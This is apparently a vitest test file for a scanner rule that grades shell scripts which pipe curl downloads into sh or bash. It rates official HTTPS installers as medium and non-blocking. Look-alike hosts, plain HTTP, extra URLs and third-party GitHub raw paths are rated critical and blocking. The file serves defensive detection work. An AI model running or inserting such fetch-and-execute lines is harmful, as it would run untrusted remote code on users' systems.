import { describe, expect, it } from 'vitest';
import { run } from '../../../test/helpers.js';
import { withScript } from '../../../test/rule-cases.js';

const pipe = async (line: string) => {
  const r = await run(withScript('scripts/bootstrap.sh', `#!/bin/sh\n${line}\n`));
  return r.findings.filter((f) => f.ruleId === 'EXEC_PIPE_TO_SHELL').map((f) => [f.severity, f.blocking]);
};

describe('official installers piped into a shell', () => {
  it('a project’s own documented installer over HTTPS is MEDIUM and does not block', async () => {
    expect(await pipe("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y")).toEqual([['MEDIUM', false]]);
    expect(await pipe('curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -')).toEqual([['MEDIUM', false]]);
  });

  it('the attack: a look-alike host, plain HTTP, another URL on the line, or another owner on a shared host still block', async () => {
    expect(await pipe('curl -sSf https://sh.rustup.rs.example-mirror.io | sh')).toEqual([['CRITICAL', true]]);
    expect(await pipe('curl -sSf http://sh.rustup.rs | sh')).toEqual([['CRITICAL', true]]);
    expect(await pipe('curl -sSf https://sh.rustup.rs https://get.example.dev/x.sh | sh')).toEqual([['CRITICAL', true]]);
    expect(await pipe('curl -fsSL https://raw.githubusercontent.com/someone/nvm/master/install.sh | bash')).toEqual([['CRITICAL', true]]);
  });
});
